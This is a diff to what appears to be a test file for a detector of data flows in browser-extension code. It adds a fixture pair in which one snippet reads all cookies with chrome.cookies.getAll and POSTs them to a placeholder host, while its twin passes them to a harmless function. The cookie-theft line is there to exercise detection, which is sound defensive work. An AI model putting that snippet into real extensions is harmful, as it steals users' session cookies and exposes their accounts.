@@ -38,6 +38,11 @@ const twins: readonly Twin[] = [
     `${through} through(chrome.alarms.getAll, {}).then((c) => ${send('c')})`,
   ],
   [
+    'a request that is called so',
+    `${through} chrome.cookies.getAll({}, (c) => through(fetch, 'https://in.a.dev', { method: 'POST', body: c }))`,
+    `${through} chrome.cookies.getAll({}, (c) => through(note, 'https://in.a.dev', { method: 'POST', body: c }))`,
+  ],
+  [
     'a table of actions that are called one after the other',
     `${acts} const run = async (...names) => { let v; for (const n of names) v = await acts[n](v) }; run('read', 'send')`,
     `${acts} const run = async (...names) => { let v; for (const n of names) await acts[n](v) }; run('read', 'send')`,
